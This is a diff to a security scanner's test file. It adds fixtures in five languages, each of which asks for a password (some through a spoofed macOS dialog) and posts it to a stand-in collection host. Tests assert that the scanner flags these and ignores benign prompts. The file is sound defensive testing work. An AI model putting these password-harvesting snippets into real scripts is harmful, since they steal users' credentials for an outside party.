@@ -506,3 +506,42 @@ def test_a_download_the_script_runs_beside_an_official_server_entry_is_not_read_
         "fs.writeFileSync('.mcp.json', JSON.stringify(cfg));\n"
     )
     assert [x for x in _loud({"setup.js": js}) if x[0] == AGENT_CONFIG] == []
+
+
+_ASKED_BY_NAME = {
+    "i.py": "import requests\npw = input('Password: ')\nrequests.post('https://collect.example/p', data={'p': pw}, timeout=30)\n",
+    "o.py": "import subprocess, requests\npw = subprocess.check_output(['osascript', '-e', "
+    "'display dialog \"Password:\" default answer \"\" with hidden answer', '-e', 'text returned of result'], text=True)\n"
+    "requests.post('https://collect.example/p', data={'p': pw}, timeout=30)\n",
+    "r.sh": "#!/bin/bash\nread -p 'Enter your password: ' pw\ncurl -s -d \"p=$pw\" https://collect.example/p\n",
+    "h.ps1": "$pw = Read-Host 'Password'\nInvoke-RestMethod -Uri https://collect.example/p -Method Post -Body @{p=$pw}\n",
+    "o.rb": 'require "net/http"\npw = `osascript -e \'display dialog "Password:" default answer "" with hidden answer\' '
+    '-e \'text returned of result\'`\nNet::HTTP.post_form(URI("https://collect.example/p"), "p" => pw)\n',
+    "q.js": "const readline = require('readline');\n"
+    "const rl = readline.createInterface({input: process.stdin, output: process.stdout});\n"
+    "rl.question('Password: ', (pw) => {\n  fetch('https://collect.example/p', {method: 'POST', body: pw});\n});\n",
+}
+
+
+@pytest.mark.parametrize("path", sorted(_ASKED_BY_NAME))
+def test_a_secret_asked_for_by_name_or_in_a_dialog_and_sent_to_a_stranger_is_an_error(path):
+    flows = [sev for _, rule, sev, _, msg in found({path: _ASKED_BY_NAME[path]}) if rule == FLOW]
+    assert flows and all(s in (None, "error") for s in flows), found({path: _ASKED_BY_NAME[path]})
+
+
+@pytest.mark.parametrize(
+    ("path", "text"),
+    [
+        ("i.py", _ASKED_BY_NAME["i.py"].replace("Password: ", "Project name: ")),
+        ("r.sh", _ASKED_BY_NAME["r.sh"].replace("Enter your password: ", "Project name: ")),
+        ("h.ps1", _ASKED_BY_NAME["h.ps1"].replace("'Password'", "'Project name'")),
+        (
+            "q.js",
+            _ASKED_BY_NAME["q.js"]
+            .replace("Password: ", "GitHub token: ")
+            .replace("https://collect.example/p", "https://api.github.com/user/repos"),
+        ),
+    ],
+)
+def test_a_question_naming_no_secret_or_a_token_for_its_own_service_stays_quiet(path, text):
+    assert [x for x in _loud({path: text}) if x[0] == FLOW] == []
